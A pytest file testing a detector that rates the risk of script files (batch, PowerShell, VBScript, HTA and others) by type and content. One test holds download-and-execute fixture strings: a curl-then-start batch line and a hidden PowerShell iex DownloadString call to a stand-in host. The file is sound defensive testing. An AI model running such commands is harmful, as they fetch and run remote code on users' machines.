"""script.present: scripts, weighed by what starts them."""

import pytest

from gifthorse.inspect.detectors import script_present as detector
from gifthorse.model.findings import Severity
from tests.samples.files import findings_of, severities


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.bat", b"dir\r\n"),
        ("a.ps1", b"Get-Date\r\n"),
        ("a.vbs", b"MsgBox 1"),
        ("a.hta", b"<html><body></body></html>"),
        ("a.wsf", b"<job><script language='VBScript'>x=1</script></job>"),
    ],
)
def test_what_a_double_click_starts_is_low(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == [Severity.LOW]


@pytest.mark.parametrize(
    ("name", "body"),
    [("a.py", b"print(1)\n"), ("tool", b"#!/usr/bin/env python3\nprint(1)\n"), ("page.js", b"document.title = 1;\n"), ("x.sh", b"echo\n")],
)
def test_source_code_is_only_noted(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == [Severity.INFO]


def test_the_language_is_told_by_the_first_line() -> None:
    (finding,) = findings_of(detector, b"#!/usr/bin/env -S perl -w\n1;\n", "tool")
    assert finding.detail is not None
    assert finding.detail.values == {"language": "perl"}


def test_fetching_and_starting_is_medium_and_unseen_high() -> None:
    assert severities(detector, b"curl -o a.exe http://198.51.100.7/a\r\nstart a.exe\r\n", "get.bat") == [Severity.MEDIUM]
    assert severities(
        detector, b"powershell -w hidden -c iex((New-Object Net.WebClient).DownloadString('http://198.51.100.7'))", "x.cmd"
    ) == [Severity.HIGH]


def test_a_set_up_script_that_fetches_an_installer_in_the_open_is_low() -> None:
    body = (
        b"$url = 'https://example.org/a.msi'\n(New-Object Net.WebClient).DownloadFile($url, $p)\nStart-Process msiexec -ArgumentList $p\n"
    )
    assert severities(detector, body, "install.ps1") == [Severity.LOW]


def test_text_about_scripts_is_no_script() -> None:
    assert severities(detector, b"Type @echo off in the first line.", "manual.txt") == []
